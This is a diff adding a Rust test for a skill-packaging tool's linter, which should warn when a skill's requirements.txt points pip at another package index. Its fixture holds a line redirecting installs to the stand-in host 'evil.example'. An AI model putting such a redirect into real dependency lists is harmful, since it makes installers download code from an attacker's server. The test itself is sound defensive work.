@@ -81,6 +81,38 @@ fn what_a_push_would_refuse_fails_the_lint() {
     assert_eq!(said.code, 3, "{}", said.stderr);
 }
 
+/// Z-27: an author is told before anybody runs it.
+#[test]
+fn a_list_that_leads_elsewhere_is_warned_of_when_it_is_checked_and_pushed() {
+    let shell = Shell::new();
+    shell.skill("needs", "version: 1.0.0\n", ("scripts/main.py", ""));
+    let list = "six\n-e .\n--index-url https://evil.example/simple\n-i https://pypi.org/simple\n";
+    std::fs::write(shell.folder().join("needs/requirements.txt"), list).unwrap();
+    let found = shell.json(&["skill", "lint", "needs"]);
+    let places: Vec<_> = found
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|finding| finding["file"] == "requirements.txt")
+        .map(|finding| (&finding["severity"], &finding["line"]))
+        .collect();
+    let warning = serde_json::json!("warning");
+    assert_eq!(
+        places,
+        [(&warning, &2.into()), (&warning, &3.into())],
+        "{found:#}"
+    );
+    let pushed = shell.run(&["skill", "push", "needs"]);
+    assert_eq!(pushed.code, 0, "{}", pushed.stderr);
+    for part in [
+        "requirements.txt:2: ",
+        "requirements.txt:3: ",
+        "deps.python_index",
+    ] {
+        assert!(pushed.stderr.contains(part), "{part}: {}", pushed.stderr);
+    }
+}
+
 #[test]
 fn a_refusal_names_the_version_and_hints_at_what_helps_only() {
     let shell = Shell::new();
